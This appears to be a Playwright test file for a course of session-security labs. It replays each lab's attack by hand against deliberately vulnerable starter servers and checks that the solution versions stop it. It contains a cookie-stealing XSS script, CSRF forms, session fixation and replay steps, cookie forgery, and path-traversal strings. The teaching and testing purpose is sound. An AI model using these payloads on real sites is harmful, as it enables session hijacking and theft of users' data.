/** Every lab's attack, played by hand: thief and victim each in a real browser of their own, on the built site's servers. */
import { createHash } from "node:crypto";
import { CLAIMS, spellings } from "../../labs/05-middleware/attack.ts";
import { listLabs } from "../../labs/kit/build/catalogue.ts";
import { isLabChanged } from "../helpers/changed.ts";
import { oneIn } from "../helpers/draw.ts";
import { expect, logIn, noteOn, test, trick } from "./hands.ts";
import { asBob, cookiesOf, gather, isOwners, read, slowLine, tryValues, wear, type People } from "./people.ts";

/** Returns every note that the thief read, of any user. */
type Deed = (people: People) => Promise<string>;

const COUNTED = Array.from({ length: 16 }, (_, index) => String(index + 1));

const forge: Deed = async (people) => {
  const own = await asBob(people);
  return tryValues(people, own, ["admin", "alice"]);
};

const guess: Deed = async (people) => {
  await logIn(people.victim, people.shop);
  const own = await asBob(people);
  const bands = own.filter((cookie) => !isOwners(cookie));
  const edited = bands.flatMap(({ value }) => ["admin", "alice"].map((name) => value.replace("bob", name)));
  const last = bands.flatMap(({ value }) => [..."0123456789abcdef"].map((digit) => value.slice(0, -1) + digit));
  return tryValues(people, own, [...edited, ...last, ...COUNTED]);
};

/** Writes its reader's cookies into a comment, once in each tab. */
const SCRIPT = `<script>addEventListener("DOMContentLoaded", () => {
  if (sessionStorage.sent) return;
  sessionStorage.sent = "yes";
  document.forms[0].text.value = "read: " + document.cookie + ";";
  document.forms[0].submit();
})</script>`;

const script: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  const own = await asBob(people);
  await thief.goto(`${shop.url}/comments`);
  await thief.getByLabel("Comment").fill(SCRIPT);
  await thief.getByRole("button", { name: "Post" }).click();
  await victim.goto(`${shop.url}/comments`);
  await expect.poll(() => read(people, thief, "/comments")).toContain("read: ");
  const [, value] = /read: \w+=(\w+);/.exec(await read(people, thief, "/comments")) ?? [];
  return value === undefined ? "" : tryValues(people, own, [value]);
};

const otherSite: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await victim.goto(trick(shop, "form"));
  await victim.getByRole("button", { name: "Claim my free drink" }).click();
  await victim.waitForURL(`${shop.url}/**`);
  return read(people, thief, "/comments");
};

const patient: Deed = async (people) => {
  await logIn(people.victim, people.shop);
  await wear(people.thief, await cookiesOf(people, people.victim));
  await people.skip(45);
  return read(people, people.thief, "/dashboard");
};

const busy: Deed = async (people) => {
  await logIn(people.victim, people.shop);
  await wear(people.thief, await cookiesOf(people, people.victim));
  let page = "";
  for (let minutes = 20; minutes <= 9 * 60; minutes += 20) {
    await people.skip(20);
    page = await read(people, people.thief, "/dashboard");
    if (minutes === 5 * 60) await logIn(people.victim, people.shop);
  }
  return page;
};

const DOORS = [
  { method: "GET", path: "/dashboard" },
  { method: "POST", path: "/export" },
  { method: "POST", path: "/comments", form: { text: "hello", attach: "note" } },
];
type Attempt = (typeof DOORS)[number] & { headers?: Record<string, string> };

const ATTEMPTS: Attempt[] = [
  ...DOORS,
  ...CLAIMS.flatMap(([name, value]) => DOORS.map((door) => ({ ...door, headers: { [name]: value } }))),
  ...DOORS.flatMap((door) => spellings(door.path).map((path) => ({ ...door, path }))),
];

/** What each door answers to a request that carries the thief's own cookies. */
const doors: Deed = async ({ shop, thief }) => {
  let all = "";
  for (const { path, ...request } of ATTEMPTS) {
    // A sandbox answers a hundred requests a second; who is faster is told to come again.
    await expect(async () => {
      const response = await thief.request.fetch(shop.url + path, request);
      expect(response.status()).not.toBe(429);
      all += await response.text();
    }).toPass();
  }
  return all;
};

const strangerThenBob: Deed = async (people) => {
  await logIn(people.victim, people.shop);
  const asNobody = await doors(people);
  await asBob(people);
  return asNobody + (await doors(people)) + (await read(people, people.thief, "/comments"));
};

const replay: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  await wear(thief, await cookiesOf(people, victim));
  await Promise.all([victim.waitForNavigation(), victim.getByRole("button", { name: "Log out" }).click()]);
  expect(await read(people, victim, "/dashboard")).toContain("Please log in.");
  return read(people, thief, "/dashboard");
};

const outlive: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  await wear(thief, await cookiesOf(people, victim));
  await victim.goto(`${shop.url}/account`);
  await victim.getByLabel("Password until now").fill("wonderland");
  await victim.getByLabel("New password").fill("looking-glass");
  await Promise.all([victim.waitForNavigation(), victim.getByRole("button", { name: "Change it" }).click()]);
  expect(await read(people, victim, "/dashboard")).toContain("Dashboard of alice");
  return read(people, thief, "/dashboard");
};

const fix: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await thief.goto(`${shop.url}/basket`);
  await thief.getByLabel("Item").fill("umbrella");
  await thief.getByRole("button", { name: "Add" }).click();
  await expect(thief.getByText("umbrella")).toBeVisible();
  await wear(victim, await cookiesOf(people, thief));
  await people.skip(5);
  await logIn(victim, shop);
  await people.skip(5);
  return read(people, thief, "/dashboard");
};

/** A comment on a slow line, and a logout in another tab while the server waits for the rest of it. */
const bringBack: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  await wear(thief, await cookiesOf(people, victim));
  await victim.goto(`${shop.url}/comments`);
  await victim.getByLabel("Comment").fill("Nice shop. ".repeat(20));
  const line = await slowLine(victim);
  const posted = victim.waitForNavigation();
  await victim.getByRole("button", { name: "Post" }).click({ noWaitAfter: true });
  const tab = await victim.context().newPage();
  await tab.goto(`${shop.url}/dashboard`);
  await Promise.all([tab.waitForNavigation(), tab.getByRole("button", { name: "Log out" }).click()]);
  expect(await read(people, thief, "/dashboard")).toContain("Please log in.");
  await line.mend();
  await posted;
  return read(people, thief, "/dashboard");
};

/** The list as the control room shows it. It stands for a backup that somebody lost. */
const readList: Deed = async (people) => {
  const { shop, victim } = people;
  await logIn(victim, shop);
  const own = await asBob(people);
  const { list } = await people.state();
  const texts = JSON.stringify(list).match(/[\x21\x23-\x7e]{16,}/g) ?? [];
  return tryValues(people, own, texts);
};

/** Files a session for alice among the suggestions, and sends the way to it as a cookie. */
const walkOut: Deed = async (people) => {
  const { shop, thief } = people;
  const own = await asBob(people);
  const secret = "5e55107e".repeat(8);
  const mark = createHash("sha256").update(secret).digest("hex");
  const session = { username: "alice", basket: [], createdAt: 1e15, lastSeen: 1e15, mark };
  const filed = await thief.request.post(`${shop.url}/suggestions`, { form: { text: JSON.stringify(session) } });
  const [path = ""] = /suggestions\/\d+/.exec(await filed.text()) ?? [];
  return tryValues(people, own, [`../${path}.${secret}`, `..%2f${path}.${secret}`, `....//${path}.${secret}`]);
};

/** A link on his own site, to an address that shows her note to everybody. */
const followed: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  await victim.goto(trick(shop, "share"));
  await victim.getByRole("link", { name: "Who plays tonight?" }).click();
  await victim.waitForURL(`${shop.url}/**`);
  return read(people, thief, "/comments");
};

/** She goes on in his account, and writes down what her own dashboard has shown. */
const loggedInAsBob: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  const note = await noteOn(victim);
  await victim.goto(trick(shop, "form"));
  await victim.getByRole("button", { name: "Show me the bar" }).click();
  await victim.waitForURL(`${shop.url}/**`);
  await victim.goto(`${shop.url}/reminders`);
  await victim.getByLabel("Only I read this").fill(note);
  await Promise.all([victim.waitForNavigation(), victim.getByRole("button", { name: "Keep" }).click()]);
  await asBob(people);
  return read(people, thief, "/reminders");
};

/** A copy of her cookies from the day on which she ticked the box, used a week after she came back. */
const lastWeek: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await victim.goto(`${shop.url}/`);
  await victim.getByLabel("Remember me").check();
  await victim.getByLabel("Name").fill("alice");
  await victim.getByLabel("Password").fill("wonderland");
  await Promise.all([victim.waitForNavigation(), victim.getByRole("button", { name: "Log in" }).click()]);
  await wear(thief, await cookiesOf(people, victim));
  await people.skip(2 * 24 * 60);
  expect(await read(people, victim, "/dashboard")).toContain("Dashboard of alice");
  await people.skip(7 * 24 * 60);
  return read(people, thief, "/dashboard");
};

/** The cache in front has her page, and he asks for the same address. A minute later it has forgotten the page. */
const askNext: Deed = async (people) => {
  const { shop, victim, thief } = people;
  await logIn(victim, shop);
  await victim.goto(`${shop.url}/dashboard`);
  const seen = await read(people, thief, "/dashboard");
  await people.skip(2);
  return seen;
};

const inTurn =
  (...deeds: Deed[]): Deed =>
  async (people) => {
    let all = "";
    for (const deed of deeds) all += await deed(people);
    return all;
  };

const DEEDS: Record<string, { deed: Deed; how: string }> = {
  "username-in-a-cookie": { deed: forge, how: "writing another name into his cookie" },
  "random-ids": { deed: guess, how: "forging the name or guessing the ID" },
  "cookie-flags": { deed: inTurn(script, otherSite), how: "a script in a comment, and a form on his own site" },
  expiry: { deed: inTurn(patient, busy), how: "waiting with a copied cookie, and keeping it busy" },
  middleware: { deed: strangerThenBob, how: "trying every door" },
  logout: { deed: replay, how: "replaying the copied cookie after logout" },
  fixation: { deed: fix, how: "planting a cookie and using it after the login" },
  races: { deed: bringBack, how: "waiting for a slow comment of a victim who has logged out" },
  "timing-and-leaks": { deed: readList, how: "presenting what stands on a lost copy of the list" },
  stores: { deed: walkOut, how: "sending the way to a file of his own" },
  choosing: { deed: replay, how: "replaying the copied token after logout" },
  csrf: {
    deed: inTurn(followed, loggedInAsBob),
    how: "a link that acts, and a form that logs the victim in as himself",
  },
  "remember-me": { deed: lastWeek, how: "coming back with a copy of last week's cookies" },
  account: { deed: outlive, how: "waiting with a copied cookie until the victim has a new password" },
  edge: { deed: askNext, how: "asking a shared cache for the page that the victim has just opened" },
};

test("somebody plays the attack of every lab by hand", () => {
  expect(Object.keys(DEEDS)).toEqual(listLabs().map(({ slug }) => slug));
});

const drawn = oneIn(4, Object.entries(DEEDS), {
  topic: "by hand",
  nameOf: ([slug]) => slug,
  always: ([slug]) => isLabChanged(slug),
});

for (const [slug, { deed, how }] of drawn) {
  for (const variant of ["starter", "solution"]) {
    // Chapter 1 builds the vulnerable server: before it is built nobody can log in.
    const stolen = (variant === "solution") === (slug === "username-in-a-cookie");

    test(`${slug}: by ${how} the thief ${stolen ? "reads somebody's note" : "gets nothing"} on the ${variant}`, async ({
      browser,
      request,
      open,
    }) => {
      const people = await gather(browser, request, open(slug, variant));
      const notes = (await deed(people)).match(/(?:locker|safe) \w{16}/g) ?? [];
      await wear(people.thief, []);
      await logIn(people.thief, people.shop, "bob", "builder");
      const own = /locker \w{16}/.exec(await people.thief.content())?.[0];
      expect(notes.some((note) => note !== own)).toBe(stolen);
      const simulated = await request.post(`${open(slug, variant).room}/-/attack`, {
        headers: { accept: "application/json" },
      });
      expect(await simulated.json()).toMatchObject({ stolen });
      for (const page of [people.victim, people.thief]) await page.context().close();
    });
  }
}
